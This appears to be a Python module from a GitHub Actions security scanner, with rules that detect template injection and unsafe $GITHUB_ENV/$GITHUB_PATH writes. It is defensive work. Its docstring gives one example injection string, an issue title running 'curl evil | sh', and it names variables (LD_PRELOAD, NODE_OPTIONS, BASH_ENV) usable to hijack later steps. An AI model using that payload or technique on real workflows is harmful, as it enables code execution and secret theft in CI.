"""``template-injection`` and ``github-env``: attacker-controlled text where it becomes code.

GitHub substitutes ``${{ }}`` into a ``run:`` script (or a ``github-script`` body) before the
shell or Node reads it, so an issue title such as ``"; curl evil | sh; "`` becomes a command.
A value written to ``$GITHUB_ENV`` or ``$GITHUB_PATH`` sets the environment of every later step:
a newline in it sets any variable (``NODE_OPTIONS``, ``LD_PRELOAD``, ``BASH_ENV``). Where the
values come from is :mod:`tollgate.audit.github.taint`'s job; this module grades and words it.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from dataclasses import dataclass

from tollgate.audit.findings import Confidence, Finding, Persona, RuleInfo, Severity
from tollgate.audit.github import gates
from tollgate.audit.github.expressions import (
    OPEN,
    Call,
    ContextRef,
    ExpressionMatch,
    find_expressions,
)
from tollgate.audit.github.model import Action, Job, Step, Workflow
from tollgate.audit.github.scripts import FileWrite
from tollgate.audit.github.taint import Control, Reach, Taint, has_privileged_trigger, reach
from tollgate.audit.github.tracker import Tracker, tracker_for
from tollgate.audit.rules import AuditContext, FileRule, register
from tollgate.audit.source import YScalar

Model = Workflow | Action

CODE_INPUTS: Mapping[str, tuple[str, str]] = {
    # Action inputs that are run as code: slug -> (input names separated by spaces, language).
    # From CodeQL's code-injection sink models (as zizmor uses them), kept to inputs that are
    # executed; docker/build-push-action's `context` is left out (a path, zizmor#1705).
    "actions/github-script": ("script", "js"),
    "azure/cli": ("inlinescript", "bash"),
    "azure/powershell": ("inlinescript", "pwsh"),
    "appleboy/ssh-action": ("script", "bash"),
    "mikefarah/yq": ("cmd", "bash"),
    "sergeysova/jq-action": ("cmd", "bash"),
    "devorbitus/yq-action-output": ("cmd", "bash"),
    "jannekem/run-python-script-action": ("script", "python"),
    "nick-fields/retry": ("command on_retry_command new_command_on_retry", "bash"),
    # These evaluate their input as JavaScript (a template literal or an object expression).
    "8398a7/action-slack": ("custom_payload", "js"),
    "skitionek/notify-microsoft-teams": ("overwrite", "js"),
    "gautamkrishnar/blog-post-workflow": ("item_exec", "js"),
    "roots/issue-closer-action": ("issue-close-message pr-close-message", "js"),
    "lucasbento/auto-close-issues": ("issue-close-message", "js"),
    "tibdex/backport": ("body_template head_template labels_template title_template", "js"),
}

# A cheap test before reading a script: only these can change the environment of later steps.
_ENV_WRITE_HINT = re.compile(r"GITHUB_ENV|GITHUB_PATH|exportVariable|addPath")

_GRADES: Mapping[Reach, tuple[Severity, Confidence]] = {
    Reach.PRIVILEGED: (Severity.HIGH, Confidence.HIGH),
    Reach.CALLER: (Severity.HIGH, Confidence.MEDIUM),
    Reach.FORK: (Severity.MEDIUM, Confidence.HIGH),
    Reach.MERGED: (Severity.MEDIUM, Confidence.MEDIUM),
}
_REACH_NOTES: Mapping[Reach, str] = {
    Reach.PRIVILEGED: "",
    Reach.CALLER: " How bad depends on the caller's trigger.",
    Reach.FORK: (
        " A fork's pull request runs this with a read-only token and no secrets,"
        " but the code still runs."
    ),
    Reach.MERGED: " The commit has to be merged first.",
}


@dataclass(frozen=True)
class Sink:
    """A place where text becomes code: a ``run:`` or a code input of a known action."""

    job: Job | None
    step: Step
    node: YScalar
    anchor: str
    language: str
    """``bash``, ``pwsh``, ``python``, ``cmd`` or ``js``: how to read an env var there
    (empty for a ``run:``: :func:`language` works it out when a message needs it)."""


@dataclass(frozen=True)
class Grade:
    severity: Severity
    confidence: Confidence
    persona: Persona
    note: str = ""


def steps(model: Model) -> Iterator[tuple[Job | None, Step]]:
    """Every step of a workflow (with its job) or of a composite action (job ``None``)."""
    if isinstance(model, Workflow):
        yield from model.steps()
    else:
        for step in model.all_steps():
            yield None, step


def sinks(model: Model) -> Iterator[Sink]:
    """Every place of ``model`` where ``${{ }}`` text is run as code."""
    for job, step in steps(model):
        if step.run is not None and OPEN in step.run.value:
            yield Sink(job, step, step.run, step.field_anchor("run"), "")
        uses = step.uses
        if not step.with_ or uses is None or uses.kind != "repository":
            continue
        slug = f"{uses.owner}/{uses.repo}".lower()
        if uses.path is not None:
            slug = f"{slug}/{uses.path.lower()}"
        known = CODE_INPUTS.get(slug)
        if known is None:
            continue
        names, language = known
        for key, node in step.with_.items():
            if key.lower() in names.split() and OPEN in node.value:
                yield Sink(job, step, node, step.field_anchor(f"with.{key}"), language)


def grade(model: Model, taint: Taint, job: Job | None, step: Step | None = None) -> Grade | None:
    """Severity, confidence and persona of a value with this taint reaching code."""
    workflow = model if isinstance(model, Workflow) else None
    if taint.control is Control.ATTACKER:
        events = gates.job_events(workflow, job) if workflow is not None and job else None
        how = reach(workflow, taint, events)
        if how is None:
            return None  # no trigger of this job carries the value
        severity, confidence = _GRADES[how]
        note = _REACH_NOTES[how]
        persona = Persona.REGULAR
        if not taint.certain:
            severity = Severity.MEDIUM if severity is Severity.HIGH else Severity.LOW
            confidence = Confidence.MEDIUM if confidence is Confidence.HIGH else Confidence.LOW
            note += " A step on the way may change the value: check it."
            if severity is Severity.LOW:
                persona = Persona.PEDANTIC  # unsure, and little harm if it is real
        if workflow is not None and job is not None:
            seen = gates.job_gates(workflow, job, step=step, events=events)
            confidence = gates.gated_confidence(confidence, seen)
            note += gates.describe(seen)
        return Grade(severity, confidence, persona, note)
    if taint.control is Control.WRITER:
        if taint.origin.startswith(("inputs.", "github.event.inputs")):
            return Grade(Severity.LOW, Confidence.HIGH, Persona.PEDANTIC)
        return Grade(Severity.LOW, Confidence.MEDIUM, Persona.AUDITOR)
    if taint.control is Control.UNKNOWN:
        if taint.origin.startswith("inputs."):
            return Grade(Severity.MEDIUM, Confidence.LOW, Persona.PEDANTIC)
        return Grade(Severity.LOW, Confidence.LOW, Persona.PEDANTIC)
    return None


def tracker(model: Model, context: AuditContext) -> Tracker:
    return tracker_for(model, context.tainted_inputs.get(model.path, ()))


def describe(taint: Taint) -> str:
    """``github.event.issue.title`` (text the issue's author controls), with its chain."""
    if taint.control is Control.ATTACKER:
        who = f"text that {taint.who} controls"
    elif taint.control is Control.WRITER:
        who = f"set by {taint.who}"
    else:
        who = f"{taint.who}, which this file cannot vouch for"
    return f"`{taint.origin}` ({who})"


def env_name(origin: str) -> str:
    """A variable name for the fix: ``github.event.issue.title`` -> ``ISSUE_TITLE``."""
    parts = [p for p in origin.replace("-", "_").split(".") if p not in ("*", "github", "event")]
    name = "_".join(parts[-2:]) if len(parts) > 1 else (parts[0] if parts else "VALUE")
    return "".join(c if c.isalnum() or c == "_" else "_" for c in name).upper() or "VALUE"


def read_variable(name: str, language: str) -> str:
    """How a script reads an environment variable, quoted where the language needs it."""
    return {
        "pwsh": f"$env:{name}",
        "python": f'os.environ["{name}"]',
        "cmd": f"%{name}%",
        "js": f"process.env.{name}",
    }.get(language, f'"${name}"')


def _shell(model: Model, job: Job | None, step: Step) -> str:
    shell = model.shell(job, step) if isinstance(model, Workflow) and job else None
    if shell is None and step.shell is not None:
        shell = step.shell.value
    text = (shell or "bash").strip().lower()
    for language in ("pwsh", "powershell", "python", "cmd"):
        if text.startswith(language):
            return "pwsh" if language == "powershell" else language
    return "bash"


# --- template-injection ---------------------------------------------------------------------


@register
class TemplateInjection(FileRule):
    info = RuleInfo(
        id="template-injection",
        name="Template injection",
        summary=(
            "Finds ${{ }} expressions that put attacker-controlled text (issue and pull "
            "request titles, branch names, comments, and values derived from them) into a "
            "run: script or other code, where it runs as commands."
        ),
        default_severity=Severity.HIGH,
        help_uri="docs/rules/template-injection.md",
    )

    def check(self, model: Workflow | Action, context: AuditContext) -> Iterator[Finding]:
        found: Tracker | None = None
        for sink in sinks(model):
            for match in find_expressions(sink.node.value):
                if match.expr is None:
                    continue
                found = found or tracker(model, context)
                flow = found.match(match, sink.job, sink.step)
                if flow is None:
                    continue
                ref, taint = flow
                if sink.language == "js" and _js_literal(sink.node.value, match, ref, taint):
                    continue
                verdict = grade(model, taint, sink.job, sink.step)
                if verdict is None or verdict.persona.rank > context.persona.rank:
                    continue
                language = sink.language or _shell(model, sink.job, sink.step)
                yield Finding(
                    rule=self.info.id,
                    severity=verdict.severity,
                    confidence=verdict.confidence,
                    message=_message(match.text, ref.path, taint, language) + verdict.note,
                    location=model.location(sink.node, *match.span(ref.node)),
                    anchor=sink.anchor,
                    persona=verdict.persona,
                    evidence=ref.path,
                    related=found.locations(taint),
                )


def _js_literal(script: str, match: ExpressionMatch, ref: ContextRef, taint: Taint) -> bool:
    """True when the expression yields JSON (``toJSON(x)``, a JSON output) placed as a bare
    JavaScript value (``const x = ${{ toJSON(...) }};``): JSON is a valid literal there."""
    expr = match.expr
    is_json = isinstance(expr, Call) and expr.name == "tojson"
    if not is_json and not (taint.json and expr is ref.node):
        return False
    line_start = script.rfind("\n", 0, match.start) + 1
    before = re.sub(r"\$\{\{.*?\}\}", "", script[line_start : match.start])
    before = re.sub(r"\\.", "", before)  # escaped quotes do not open or close strings
    return all(before.count(quote) % 2 == 0 for quote in "'\"`")


def _message(text: str, path: str, taint: Taint, language: str) -> str:
    where = "JavaScript" if language == "js" else "script"
    if taint.chain and taint.chain[0].lower() == path and path.startswith("env."):
        # `${{ env.X }}`: the variable is already there; the script should read it.
        name = taint.chain[0].split(".", 1)[1]
        return (
            f"`{text}` pastes `{taint.chain[0]}`, which holds {describe(taint)}, into this "
            f"{where}: "
            f"read it as {read_variable(name, language)} instead, so that it is data, "
            "not code."
        )
    name = env_name(taint.origin if not taint.chain else path)
    if not taint.chain and taint.control is Control.ATTACKER:
        what = f"puts text that {taint.who} controls into this {where}, where it runs as code"
    elif not taint.chain:
        what = f"expands {describe(taint)} into this {where}"
    else:
        via = " <- ".join(taint.chain)
        verb = "puts" if taint.control is Control.ATTACKER else "expands"
        what = f"{verb} {describe(taint)} (via {via}) into this {where}"
        if taint.control is Control.ATTACKER:
            what += ", where it runs as code"
    return (
        f"`{text}` {what}: pass it through `env:` ({name}: {text}) and use "
        f"{read_variable(name, language)} in the {where}."
    )


# --- github-env -----------------------------------------------------------------------------


@register
class GithubEnv(FileRule):
    info = RuleInfo(
        id="github-env",
        name="Dangerous $GITHUB_ENV or $GITHUB_PATH write",
        summary=(
            "Finds attacker-controlled values written to $GITHUB_ENV or $GITHUB_PATH, which "
            "set the environment (NODE_OPTIONS, LD_PRELOAD, PATH) of every later step, and "
            "such writes in workflows that outsiders can trigger."
        ),
        default_severity=Severity.HIGH,
        help_uri="docs/rules/github-env.md",
    )

    def check(self, model: Workflow | Action, context: AuditContext) -> Iterator[Finding]:
        found: Tracker | None = None
        privileged = isinstance(model, Workflow) and has_privileged_trigger(model)
        for job, step in steps(model):
            node = step.run if step.run is not None else step.with_.get("script")
            if node is None or not _ENV_WRITE_HINT.search(node.value):
                continue
            found = found or tracker(model, context)
            best: dict[int, tuple[Finding, tuple[int, bool, int]]] = {}
            for write in found.writes(step):
                if write.target == "GITHUB_OUTPUT":
                    continue
                taint = found.write_value(step, write, job)
                finding = self._finding(found, job, step, node, write, taint, privileged)
                if finding is None or finding.persona.rank > context.persona.rank:
                    continue
                # One finding per statement: the worst of the entries it writes.
                previous = best.get(write.target_start)
                if previous is None or taint.rank > previous[1]:
                    best[write.target_start] = (finding, taint.rank)
            for finding, _ in best.values():
                yield finding

    def _finding(
        self,
        tracked: Tracker,
        job: Job | None,
        step: Step,
        node: YScalar,
        write: FileWrite,
        taint: Taint,
        privileged: bool,
    ) -> Finding | None:
        model = tracked.model
        file = f"${write.target}"
        what = f"`{write.name}`" if write.name else "a value"
        if write.multiline and write.random_delimiter:
            return None  # a generated delimiter: the value cannot add entries
        if taint.control is Control.ATTACKER:
            verdict = grade(model, taint, job, step)
            if verdict is None:
                return None
            effect = (
                "puts a directory they choose first in PATH for every later step"
                if write.target == "GITHUB_PATH"
                else "lets them set any variable for later steps with a newline "
                "(NODE_OPTIONS, LD_PRELOAD, BASH_ENV run code)"
            )
            message = (
                f"Writing {what} to {file} from {describe(taint)} {effect}: do not export "
                "it, or pass it to the steps that need it through `env:`."
            )
        elif isinstance(model, Action) and taint.origin.startswith("inputs."):
            verdict = Grade(Severity.MEDIUM, Confidence.LOW, Persona.PEDANTIC)
            message = (
                f"This action writes {what} to {file} from {describe(taint)}: a caller that "
                "passes attacker-controlled text there can set any variable for later steps "
                "with a newline; validate the input or avoid exporting it."
            )
        elif privileged and taint.control is not Control.SAFE:
            verdict = Grade(Severity.MEDIUM, Confidence.LOW, Persona.PEDANTIC)
            message = (
                f"This workflow runs for outsiders and writes {what} to {file} from "
                f"{describe(taint)}: make sure no one outside can shape it, or set it "
                "with `env:` instead."
            )
        elif privileged:
            verdict = Grade(Severity.LOW, Confidence.LOW, Persona.AUDITOR)
            message = (
                f"This workflow runs for outsiders and writes {what} to {file}; the value "
                "looks fixed, but every such write changes later steps: prefer `env:`."
            )
        else:
            return None
        start = write.target_start
        return Finding(
            rule=self.info.id,
            severity=verdict.severity,
            confidence=verdict.confidence,
            message=message + verdict.note,
            location=model.location(node, start, write.target_end),
            anchor=step.field_anchor("run" if step.run is not None else "with.script"),
            persona=verdict.persona,
            evidence=f"{write.target} {write.name or ''}".strip(),
            related=tracked.locations(taint),
        )
